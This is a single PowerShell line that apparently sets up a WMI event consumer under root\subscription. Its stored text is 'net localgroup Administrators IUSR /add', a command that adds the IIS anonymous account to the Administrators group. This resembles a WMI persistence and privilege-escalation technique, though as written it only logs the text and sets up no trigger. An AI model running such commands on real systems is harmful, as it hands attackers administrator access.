Set-WmiInstance -Namespace root\subscription -Class LogFileEventConsumer -Arguments @{ Name = 'setup'; FileName = 'C:\log.txt'; Text = 'net localgroup Administrators IUSR /add' }
